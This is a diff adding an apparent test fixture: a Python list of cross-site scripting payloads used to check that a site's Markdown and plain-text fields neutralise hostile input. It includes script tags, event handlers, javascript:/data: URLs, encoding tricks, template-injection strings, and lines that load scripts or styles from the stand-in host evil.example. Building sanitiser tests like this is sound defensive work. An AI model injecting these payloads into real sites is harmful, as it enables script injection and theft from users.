@@ -1,0 +1,81 @@
+"""Hostile text for every field that is shown on a page: each payload, if it
+ran, would call alert() or set window.__xss, and some would fetch from
+another host (evil.example). Markdown fields render them; plain-text fields
+must show them as text. Kept to ordinary lengths: the cost of pathological
+Markdown is tested with the Markdown limits."""
+
+PAYLOADS = [
+    # Script tags, whole and broken
+    "<script>window.__xss=1</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<script/src=//evil.example/x.js>",
+    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
+    "</textarea><script>window.__xss=1</script>",
+    "</title><script>window.__xss=1</script>",
+    '"><script>window.__xss=1</script>',
+    "'--></style></script><script>window.__xss=1</script>",
+    "<script>/*</script><script>*/window.__xss=1</script>",
+    # Event handlers
+    "<img src=x onerror=window.__xss=1>",
+    '<img src="/nothing" onerror="alert(1)">',
+    "<svg onload=window.__xss=1>",
+    "<svg><script>window.__xss=1</script></svg>",
+    "<body onload=window.__xss=1>",
+    "<details open ontoggle=window.__xss=1>",
+    "<input autofocus onfocus=window.__xss=1>",
+    '<div onmouseover="window.__xss=1">hover</div>',
+    "<video><source onerror=window.__xss=1></video>",
+    "<marquee onstart=window.__xss=1>",
+    '<a href="#" onclick="window.__xss=1">click</a>',
+    "<IMG SRC=/x oNeRrOr=window.__xss=1>",
+    "<img src=x onerror=&#119;indow.__xss=1>",
+    # javascript:, data: and vbscript: URLs in HTML
+    '<a href="javascript:window.__xss=1">link</a>',
+    '<a href="JaVaScRiPt:window.__xss=1">link</a>',
+    '<a href="jav&#x09;ascript:window.__xss=1">link</a>',
+    '<a href="&#106;avascript:window.__xss=1">link</a>',
+    '<a href="data:text/html,<script>window.__xss=1</script>">data</a>',
+    '<a href="vbscript:msgbox(1)">vb</a>',
+    '<iframe src="javascript:window.__xss=1"></iframe>',
+    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
+    '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<form action="javascript:window.__xss=1"><button>go</button></form>',
+    '<button formaction="javascript:window.__xss=1">go</button>',
+    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
+    '<base href="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    # Style and expression
+    "<style>@import url(https://evil.example/x.css);</style>",
+    '<div style="background:url(https://evil.example/x.png)">styled</div>',
+    '<div style="width:expression(window.__xss=1)">old IE</div>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
+    # Markdown links, images and references
+    "[link](javascript:window.__xss=1)",
+    "[link](JaVaScRiPt:window.__xss=1)",
+    "[link](javascript&#58;window.__xss=1)",
+    "[link](  javascript:window.__xss=1  )",
+    "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
+    "![image](javascript:window.__xss=1)",
+    '![" onerror="window.__xss=1](/x)',
+    '![x](/x" onerror="window.__xss=1)',
+    "[ref link][r]\n\n[r]: javascript:window.__xss=1",
+    '[ref][r2]\n\n[r2]: /x "title" onmouseover="window.__xss=1"',
+    "<javascript:window.__xss=1>",
+    "<data:text/html,<script>window.__xss=1</script>>",
+    '[a](https://example.org/"onmouseover="window.__xss=1)',
+    'https://example.org/"onmouseover="window.__xss=1',
+    "[x](#)<!-- -->\n<img src=x onerror=window.__xss=1>",
+    "```\n</code></pre><script>window.__xss=1</script>\n```",
+    "`<script>window.__xss=1</script>`",
+    # Entity and encoding tricks
+    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
+    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
+    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
+    "<<script>script>window.__xss=1<</script>/script>",
+    "<img src=`x` onerror=window.__xss=1>",
+    # Template injection: shown as typed, never evaluated
+    "{{ request.user.email }}{{ 7|add:7 }}",
+    "{% debug %}{% load static %}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+]
